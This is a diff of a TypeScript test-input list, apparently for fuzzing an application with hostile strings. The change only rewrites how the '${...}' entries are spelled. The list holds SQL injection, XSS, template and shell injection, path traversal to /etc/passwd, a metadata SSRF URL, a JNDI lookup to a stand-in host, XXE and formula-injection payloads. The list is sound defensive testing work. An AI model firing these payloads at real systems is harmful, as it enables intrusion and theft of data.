@@ -7,7 +7,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   // SQL, JQL, CQL.
   "'", '"', "' OR '1'='1", "'; DROP TABLE users; --", '1; select pg_sleep(10)--', "' UNION SELECT name FROM sqlite_master --", '%', '_', '%_%', "\\'", '$1', '?1', ':hash', '"; project in (SECRET) or "a"="a', 'project = PAY OR assignee = currentUser()', 'space = "ENG" or type = page', '" ORDER BY created', "a' COLLATE NOCASE", '*', '[a-z]', 'a%\' ESCAPE \'%',
   // Pages, templates, shells, paths.
-  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '`id`', '$(id)', '; id', '| id', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', 'http://169.254.169.254/', '//evil.example', '%2e%2e%2f', '%s%s%s%n', '${jndi:ldap://evil.example/a}', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '(&(uid=*))', '=cmd|\' /C calc\'!A0',
+  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '{{7*7}}', '$' + '{7*7}', '#{7*7}', '<%= 7*7 %>', '`id`', '$(id)', '; id', '| id', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', 'http://169.254.169.254/', '//evil.example', '%2e%2e%2f', '%s%s%s%n', '$' + '{jndi:ldap://evil.example/a}', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '(&(uid=*))', '=cmd|\' /C calc\'!A0',
   // Properties that every object has.
   '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__proto__.polluted', 'constructor.prototype.polluted', '$where', '$ne', '__defineGetter__', 'then', 'length', '[object Object]', 'undefined', 'null', 'true', 'false', 'NaN', 'Infinity',
   // Numbers in other spellings.
